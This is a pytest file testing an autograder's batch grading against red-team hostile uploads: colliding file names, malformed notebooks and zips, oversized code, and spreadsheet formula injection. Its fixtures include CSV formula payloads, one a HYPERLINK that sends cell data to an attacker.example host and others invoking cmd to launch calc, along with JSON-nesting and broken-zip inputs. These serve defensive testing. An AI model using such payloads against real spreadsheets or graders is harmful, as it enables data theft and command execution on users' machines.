"""``python -m grading batch`` against hostile uploads (red team rt9, /work/wt/rt9-attacks/batch-*).

No notebook is graded here: a stand-in replaces ``run.grade_one`` (it reads the score a test
notebook carries in its JSON), so each test costs well under a second. What is tested is the
batch's own handling: ids, the rows of grades.csv, reading uploads, the similarity table's bound,
spreadsheet-safe cells, resuming after a grader error, and the results folder's refusal.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import struct
import zipfile
from pathlib import Path

import pytest

from grading.batch import answers, cli, inputs, report, run, tables

# ----------------------------------------------------------------------------- helpers


def _notebook(score: float, cells: list[dict] | None = None) -> str:
    """A notebook-shaped JSON whose ``score`` the stand-in grader gives it."""
    return json.dumps({"cells": cells or [], "metadata": {}, "score": score})


def _stub_grade_one(monkeypatch, status: dict[str, str] | None = None) -> list[str]:
    """``run.grade_one`` without a notebook run: the upload's first file's JSON ``score`` (0 when
    it has none) out of 2, status ``status[id]`` (default graded). Returns the ids graded."""
    graded: list[str] = []

    def fake(sub, zip_path, out, grader_args):
        graded.append(sub.id)
        try:
            score = float(json.loads(sub.files[0].read_bytes())["score"])
        except Exception:
            score = 0.0
        out.mkdir(parents=True, exist_ok=True)
        test = {"name": "q1_x", "score": score, "max_score": 2.0, "output": ""}
        (out / run.RESULTS).write_text(json.dumps({"score": score, "output": "", "tests": [test]}))
        state = (status or {}).get(sub.id, "graded")
        reason = "The autograder itself failed (a stand-in)" if state == "error" else ""
        return {"status": state, "reason": reason, "wall_seconds": 0.1, "cpu_seconds": 0.1}

    monkeypatch.setattr(run, "grade_one", fake)
    return graded


def _zip(tmp_path: Path) -> Path:
    """A stand-in autograder.zip, written once (a zip's bytes hold the time it was written: a
    second one would be another autograder to the resume key)."""
    path = tmp_path / "autograder.zip"
    if path.is_file():
        return path
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("otter_config.json", json.dumps({"assignment_name": "offline_rl"}))
    return path


def _batch(tmp_path: Path, subs: Path, *extra: str) -> tuple[int, Path]:
    out = tmp_path / "out"
    code = cli.main_batch([str(_zip(tmp_path)), str(subs), str(out), "--no-progress", *extra])
    return code, out


def _grades(out: Path) -> dict[str, dict[str, str]]:
    """grades.csv's rows by submission, each cell as written (spreadsheet quoting undone)."""
    return tables.read_grades(out / "grades.csv")


# ----------------------------------------------------------------------------- ids


@pytest.mark.parametrize("other", ["bob!.ipynb", "bob~.ipynb", "bob .ipynb", "-bob.ipynb"])
def test_a_classmates_file_name_never_takes_bobs_row(tmp_path, monkeypatch, capsys, other):
    """rt9 batch-id-swap: ``bob!.ipynb`` is ``bob`` once made safe, and '!' sorts before '.', so
    the classmate took the id ``bob`` and Bob's row showed the classmate's grade. An exact name
    keeps its id whichever way the names sort; the row names its upload; the run warns."""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "bob.ipynb").write_text(_notebook(2.0))  # Bob: full marks
    (subs / other).write_text(_notebook(0.0))
    _stub_grade_one(monkeypatch)
    code, out = _batch(tmp_path, subs)
    assert code == 0
    rows = _grades(out)
    assert rows["bob"]["total"] == "2", rows  # Bob's row shows Bob's grade
    (renamed,) = set(rows) - {"bob"}
    assert rows[renamed]["total"] == "0", rows
    assert rows["bob"]["upload"] == "bob.ipynb" and rows[renamed]["upload"] == other, rows
    said = capsys.readouterr()
    assert f"{other} is graded as '{renamed}'" in said.err + said.out


def test_suffixes_never_collide_and_every_upload_has_its_row(tmp_path, monkeypatch):
    """rt9 batch-id-collision: ``bob .ipynb`` became ``bob``, ``bob.ipynb`` was renamed ``bob-2``,
    the same id as ``bob-2.ipynb``: two gradings into one folder, one student missing."""
    subs = tmp_path / "subs"
    subs.mkdir()
    names = ["bob .ipynb", "bob.ipynb", "bob-2.ipynb", "Bob.zip", "bob-3 .ipynb"]
    for i, name in enumerate(names):
        (subs / name).write_text(_notebook(i / 4))  # a score of its own
    graded = _stub_grade_one(monkeypatch)
    _code, out = _batch(tmp_path, subs)
    rows = _grades(out)
    assert len(graded) == len(set(graded)) == len(names), graded  # one grading per id
    assert len(rows) == len(names), rows  # and one row per upload
    assert sorted(row["upload"] for row in rows.values()) == sorted(names)
    assert rows["bob"]["upload"] == "bob.ipynb" and rows["bob-2"]["upload"] == "bob-2.ipynb"
    for row in rows.values():  # each row carries its own upload's score
        assert row["total"] == f"{names.index(row['upload']) / 4:g}", row


@pytest.mark.parametrize("seed", range(8))
def test_ids_are_unique_and_exact_names_keep_theirs(tmp_path, seed):
    """Random mixes of clashing names (notebooks, zips, folders): no two ids are equal, every id
    is its upload's safe name or that with a suffix, and an already-safe name keeps itself."""
    rng = random.Random(seed)
    pool = ["bob", "bob-2", "bob-3", "bob!", "bob ", " bob", "Bob", "bob-2!", ".bob", "-bob",
            "bob_", "bob__", "b o b", "submission", "!!!", "bob-2-2"]  # fmt: skip
    uploads = {}
    for name in rng.sample(pool, rng.randint(2, len(pool))):
        kind = rng.choice([".ipynb", ".zip", ""])
        if kind:
            (tmp_path / f"{name}{kind}").touch()
        else:
            (tmp_path / name).mkdir()  # a folder upload
        uploads[f"{name}{kind}"] = name
    found = inputs.discover(tmp_path)
    ids = [sub.id for sub in found]
    assert len(ids) == len(uploads) and len(set(ids)) == len(ids), ids
    for sub in found:
        name = uploads[sub.source.name]
        safe = inputs._safe(name)
        assert sub.id == safe or re.fullmatch(re.escape(safe) + r"-\d+", sub.id), (name, sub.id)
        if safe == name:
            assert sub.id == name, (name, sub.id, sorted(uploads))


# ----------------------------------------------------------------------------- unreadable uploads


def _patched_zip(method: int | None = None, flags: int | None = None, garble: bool = False):
    """An export-cell zip (one notebook, deflated), with its central directory's compression
    method or flag bits overwritten, or its compressed data garbled."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("offline_rl.ipynb", _notebook(1.0) * 50)
    data = bytearray(buffer.getvalue())
    cd = data.index(b"PK\x01\x02")
    if method is not None:
        data[cd + 10 : cd + 12] = struct.pack("<H", method)
    if flags is not None:
        data[cd + 8 : cd + 10] = struct.pack("<H", flags)
    if garble:
        start = 30 + len("offline_rl.ipynb")  # the local header, then the compressed data
        data[start : start + 40] = b"\xff" * 40
    return bytes(data)


def _cells(*cells: dict) -> bytes:
    return json.dumps({"cells": list(cells)}).encode()


HOSTILE = {
    # JSON nested too deep: RecursionError in json.loads
    "deep.ipynb": b"[" * 100_000 + b"]" * 100_000,
    # a markdown cell with list metadata: AttributeError in from_notebook
    "meta.ipynb": _cells({"cell_type": "markdown", "metadata": ["x"], "source": "hi"}),
    "tags.ipynb": _cells({"cell_type": "code", "metadata": {"tags": 5}, "source": [1, None]}),
    "unhashable_tags.ipynb": _cells({"cell_type": "code", "metadata": {"tags": [{}]}}),
    "method99.zip": _patched_zip(method=99),  # NotImplementedError
    "encrypted.zip": _patched_zip(flags=1),  # RuntimeError: password required
    "garbled.zip": _patched_zip(garble=True),  # zlib.error / BadZipFile
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_reading_a_hostile_upload_never_raises(tmp_path, name):
    """rt9 batch-crash-deep-json / batch-crash-zip: ``answers.extract`` (run by the batch on every
    upload before any grading) let RecursionError, AttributeError, NotImplementedError and
    RuntimeError out, and the whole class went ungraded."""
    path = tmp_path / name
    path.write_bytes(HOSTILE[name])
    found = answers.extract(inputs.Submission("x", path, (path,)))
    assert found["code"] == "" and found["manual"] == {}
    if name == "deep.ipynb":
        assert found["unreadable"].startswith("not a valid notebook: RecursionError"), found
    elif name.endswith(".zip"):
        assert found["unreadable"].startswith(f"{name} is not a readable zip"), found


def test_one_hostile_upload_is_one_row_and_the_class_is_graded(tmp_path, monkeypatch, capsys):
    """Every hostile upload above in one class with a good one, one over the size bound and one
    over the file count: the run ends (exit 0), every upload has its row, the good one is
    graded, and the oversized ones' rows say what is wrong and what to do."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for name, data in HOSTILE.items():
        (subs / name).write_bytes(data)
    (subs / "alice.ipynb").write_text(_notebook(2.0))
    (subs / "huge.ipynb").write_text(_notebook(1.0) + " " * 300_000)
    (subs / "many").mkdir()
    for i in range(4):
        (subs / "many" / f"{i}.ipynb").write_text(_notebook(1.0))
    monkeypatch.setattr(inputs, "MAX_UPLOAD_FILES", 3, raising=False)
    # deep.ipynb, 200 kB, is below. raising=False: the test also runs (and fails, on the crash)
    # on the code before this bound existed.
    monkeypatch.setattr(inputs, "MAX_UPLOAD_BYTES", 250_000, raising=False)
    graded = _stub_grade_one(monkeypatch)
    code, out = _batch(tmp_path, subs)
    assert code == 0, capsys.readouterr()
    rows = _grades(out)
    assert {row["upload"] for row in rows.values()} == {*HOSTILE, "alice.ipynb", "huge.ipynb",
                                                        "many"}  # fmt: skip
    assert rows["alice"]["total"] == "2" and not {"huge", "many"} & set(graded), graded
    for sid, what in (("huge", "MB"), ("many", "4 files")):
        assert rows[sid]["status"] == "ungradable", rows[sid]
        assert what in rows[sid]["reason"] and "ask the student" in rows[sid]["reason"]
    assert (out / "report.html").is_file()


def test_the_grader_calls_a_broken_zip_the_students_problem(tmp_path):
    """rt9 batch-crash-zip, side finding: the grader's ``_candidates`` let the "encrypted" flag's
    RuntimeError out, so results.json blamed the grader ("The autograder itself failed")."""
    from grading import submission

    for name in ("encrypted.zip", "garbled.zip", "method99.zip"):
        folder = tmp_path / name.removesuffix(".zip")
        folder.mkdir()
        (folder / name).write_bytes(HOSTILE[name])
        notebooks, seen = submission._candidates(folder, tmp_path / f"unpack-{name}")
        assert notebooks == [] and any(f"{name} (not a readable zip" in x for x in seen), seen


# ----------------------------------------------------------------------------- similarity


def test_similarity_fingerprints_a_bounded_amount_of_code(tmp_path, monkeypatch):
    """rt9 batch-similarity-dos: 3 MB of answer code cost ~55 s of copydetect in every batch and
    merge. Only the first MAX_CODE_CHARS of each upload's answer code are fingerprinted, and
    record.json stores no more (plus a note where it was cut)."""
    import copydetect

    seen: list[int] = []
    real = copydetect.CodeFingerprint

    def spy(*args, **kwargs):
        seen.append(len(kwargs["fp"].getvalue()))
        return real(*args, **kwargs)

    monkeypatch.setattr(copydetect, "CodeFingerprint", spy)
    huge = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(120_000))  # 3.6 MB
    rows = [tables.Row({"id": sid, "answers": {"code": huge}}, None) for sid in ("a", "b")]
    report.similarity(rows)
    assert seen and max(seen) <= answers.MAX_CODE_CHARS, seen
    cell = {"cell_type": "code", "source": huge, "metadata": {"tags": [answers.ANSWER_TAG]}}
    (tmp_path / "big.ipynb").write_text(json.dumps({"cells": [cell]}))
    sub = inputs.Submission("big", tmp_path / "big.ipynb", (tmp_path / "big.ipynb",))
    code = answers.extract(sub)["code"]
    assert code.startswith(huge[:1000]) and len(code) <= answers.MAX_CODE_CHARS + 200
    assert "cut here" in code


# ----------------------------------------------------------------------------- spreadsheet cells

FORMULAS = {
    "name": '=HYPERLINK("http://attacker.example/?"&D3,"grades")',
    "sid": "+1+cmd|' /C calc'!A0",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_cells_never_start_a_formula(tmp_path):
    """rt9 batch-csv-formula: names from the Gradescope export were written raw into grades.csv
    and grades-canvas.csv, so ``=HYPERLINK(...)`` ran when the instructor opened the file. Every
    cell that could start a formula gets OWASP's leading quote; the text stays readable and an
    earlier grades.csv (``--previous``) reads back as it was."""
    students = [FORMULAS, {"name": "-Ada", "sid": "\t9", "email": " =1+1"},
                {"name": "'=O'Brien", "sid": "-7", "email": "=x@y"}]  # fmt: skip
    forged = {"name": "Eve\r=HYPERLINK(1)", "sid": "8\n@x", "email": "eve@x"}  # a forged row
    base = {"status": "graded", "reason": "-oops"}
    rows = [
        tables.Row({**base, "id": f"s{i}", "source": f"/x/s{i}.zip", "student": s}, {"score": 1})
        for i, s in enumerate([*students, forged])
    ]
    tables.write_grades(rows, tmp_path / "grades.csv")
    tables.write_canvas(rows, tmp_path / "canvas.csv", "a")
    for name, lines in (("grades.csv", 1 + len(rows)), ("canvas.csv", 2 + len(rows))):
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            table = list(csv.reader(f))
        assert len(table) == lines, (name, table)  # no row forged by a line break
        cells = [c for line in table for c in line]
        bad = [c for c in cells if c.lstrip().startswith(tables.FORMULA_START)]
        assert not bad, (name, bad)
        for student in students:
            for text in student.values():
                assert "'" + text in cells, (name, text)  # readable: the text, quoted
    back = tables.read_grades(tmp_path / "grades.csv")
    assert [(r["student"], r["sid"], r["email"]) for r in back.values()][:-1] == [
        (s["name"], s["sid"], s["email"]) for s in students
    ]


# ----------------------------------------------------------------------------- resume


def test_resume_grades_again_what_the_grader_failed_on(tmp_path, monkeypatch, capsys):
    """A record whose status is ``error`` (the grader's own failure: a timeout, a crash) was
    reused by every resumed run, so the student kept a 0 the grader owed them. It is graded
    again and the summary says so; ``ungradable`` (the upload's fault) and graded are reused."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for name, score in (("a", 2.0), ("b", 1.0)):
        (subs / f"{name}.ipynb").write_text(_notebook(score))
    (subs / "c.ipynb").write_text("not json")
    graded = _stub_grade_one(monkeypatch, status={"a": "error", "c": "ungradable"})
    _batch(tmp_path, subs)
    assert sorted(graded) == ["a", "b", "c"]
    capsys.readouterr()
    graded = _stub_grade_one(monkeypatch)
    _batch(tmp_path, subs)
    assert graded == ["a"]
    said = capsys.readouterr().out
    assert "1 graded now, 2 reused" in said and "1 run again after a grader error" in said, said
    assert _grades(tmp_path / "out")["a"]["status"] == "graded"


# ----------------------------------------------------------------------------- results folder


def test_a_results_folder_in_a_world_writable_folder_is_refused_before_it_is_made(tmp_path):
    """rt9 path-refusals (a): RESULTS not made yet, in a 0777 (not sticky) folder: the grader made
    it, then refused with a traceback (exit 1). grading/README item 10 promises exit 2 and
    nothing written: the parent is checked first."""
    import os

    from grading import __main__ as grading_main
    from grading import paths

    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    results = shared / "res"
    assert grading_main._refusal(tmp_path, results, "floor") == 2
    assert not results.exists()
    with pytest.raises(paths.UnsafePathError, match="other users can write"):
        paths.open_dir(results, create=True)
    assert not results.exists()
    os.chmod(shared, 0o1777)  # sticky, as /tmp: root's new entry there is safe
    paths.check_new_dir(results)
    assert not results.exists()  # checking creates nothing


def test_answers_come_from_the_notebook_the_grader_grades(tmp_path):
    """Red team rt10: a folder with ``offline_rl.ipynb`` (answered) and ``Copy_of_draft.ipynb``
    (blank): the grader grades the first, the manual page showed the draft's blank answers."""
    folder = tmp_path / "sub"
    folder.mkdir()
    mine = {"cells": [{"cell_type": "markdown", "source": "MY REAL ANSWER", "metadata": {}}]}
    draft = {"cells": [{"cell_type": "markdown", "source": "a draft", "metadata": {}}]}
    (folder / "offline_rl.ipynb").write_text(json.dumps(mine))
    (folder / "Copy_of_draft.ipynb").write_text(json.dumps(draft))
    sub = inputs.Submission("x", folder, tuple(sorted(folder.iterdir())))
    data, _ = answers._notebook_bytes(sub, prefer="offline_rl.ipynb")
    assert data is not None and b"MY REAL ANSWER" in data
    with zipfile.ZipFile(tmp_path / "export.zip", "w") as zf:  # the same inside a zip
        zf.writestr("Copy_of_draft.ipynb", json.dumps(draft))
        zf.writestr("offline_rl.ipynb", json.dumps(mine))
    packed = inputs.Submission("y", tmp_path / "export.zip", (tmp_path / "export.zip",))
    data, _ = answers._notebook_bytes(packed, prefer="offline_rl.ipynb")
    assert data is not None and b"MY REAL ANSWER" in data


def test_a_heading_in_an_answer_cannot_pass_for_another_students_entry():
    """Red team rt11: "### alice" in Mallory's answer rendered as the page's own label (h3) of a
    student, followed by a made-up answer and points line, inside Mallory's box."""
    html = str(report.render_markdown("points: ______\n\n### alice\n\nI copied my answer."))
    assert "<h" not in html, html
    assert "<strong>alice</strong>" in html, html
